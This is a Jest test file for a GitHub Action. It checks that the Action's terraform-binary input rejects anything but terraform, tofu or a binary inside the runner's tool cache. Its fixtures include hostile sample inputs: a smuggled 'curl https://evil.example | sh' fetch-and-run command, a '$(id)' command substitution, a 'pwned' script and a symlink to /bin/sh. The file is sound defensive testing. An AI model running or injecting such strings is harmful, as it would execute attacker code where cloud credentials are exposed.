// The plan Action's terraform-binary input names a program it runs with AWS credentials in its environment:
// anything but terraform, tofu or one of them in the runner's tool cache is refused before any OIDC token
// is requested and before anything runs.
import { afterEach, describe, expect, it } from "@jest/globals";
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Runner } from "../action/harness.js";
import { inputs, posted, prEvent } from "../action/mocks.js";

let runner: Runner | undefined;
afterEach(() => {
  runner?.cleanup();
  runner = undefined;
  posted.length = 0;
});

/** Runs with this binary; no OIDC/STS mock exists, so any token request would fail loudly. */
async function refused(binary: string | ((cache: string) => string)) {
  runner = new Runner(inputs, prEvent).root("prod", {});
  const cache = join(runner.dir, "toolcache");
  mkdirSync(cache);
  const value = typeof binary === "string" ? binary : binary(cache);
  Object.assign(runner.env, { "INPUT_TERRAFORM-BINARY": value, RUNNER_TOOL_CACHE: cache });
  const run = await runner.run();
  expect(run.ok).toBe(false);
  expect(run.calls).toEqual([]);
  expect(run.programs).toEqual([]);
  const error = run.stdout.find((line) => line.startsWith("::error::")) ?? "";
  expect(error).not.toMatch(/Nock|idtoken|sts/i);
  expect(error).toMatch(/^::error::input terraform-binary: /);
  return error;
}

describe("terraform-binary runs only terraform or tofu", () => {
  it("refuses another program on PATH (sh)", async () => {
    expect(await refused("sh")).toMatch(/expected "terraform", "tofu", or an absolute path/);
  });

  it("refuses shell text (tofu; curl …)", async () => {
    expect(await refused("tofu; curl https://evil.example | sh")).toMatch(/expected "terraform", "tofu"/);
  });

  it("refuses command substitution ($(id))", async () => {
    expect(await refused("$(id)")).toMatch(/expected "terraform", "tofu"/);
  });

  it("refuses a relative path (./tofu) that the repository could provide", async () => {
    expect(await refused("./tofu")).toMatch(/expected "terraform", "tofu", or an absolute path/);
  });

  it("refuses an absolute path outside the tool cache (/bin/sh)", async () => {
    expect(await refused("/bin/sh")).toMatch(/outside the runner's tool cache|not a terraform or tofu/);
  });

  it("refuses a file named tofu outside the tool cache (in the workspace)", async () => {
    const error = await refused((cache) => {
      const file = join(cache, "..", "ws", "tofu");
      writeFileSync(file, "#!/bin/sh\necho pwned\n");
      chmodSync(file, 0o755);
      return file.replace("/toolcache/..", "");
    });
    expect(error).toMatch(/is outside the runner's tool cache/);
  });

  it("refuses .. segments that climb out of the tool cache", async () => {
    expect(await refused((cache) => `${cache}/../ws/tofu`)).toMatch(/without \.\. segments/);
  });

  it("refuses a symlink in the tool cache that leads out of it", async () => {
    const error = await refused((cache) => {
      symlinkSync("/bin/sh", join(cache, "tofu"));
      return join(cache, "tofu");
    });
    expect(error).toMatch(/is outside the runner's tool cache/);
  });

  it("refuses another program inside the tool cache (node)", async () => {
    const error = await refused((cache) => {
      const file = join(cache, "node", "20", "x64", "node");
      mkdirSync(join(cache, "node", "20", "x64"), { recursive: true });
      writeFileSync(file, "#!/bin/sh\n");
      return file;
    });
    expect(error).toMatch(/is not a terraform or tofu executable \(its file is node\)/);
  });

  it("refuses a path when the runner names no tool cache", async () => {
    runner = new Runner(inputs, prEvent).root("prod", {});
    Object.assign(runner.env, { "INPUT_TERRAFORM-BINARY": "/opt/hostedtoolcache/tofu/1.8.5/x64/tofu" });
    delete runner.env.RUNNER_TOOL_CACHE;
    const run = await runner.run();
    expect(run.ok).toBe(false);
    expect(run.programs).toEqual([]);
    expect(run.stdout).toContain(
      "::error::input terraform-binary: a path is accepted only inside the runner's tool cache, and RUNNER_TOOL_CACHE is not set",
    );
  });
});
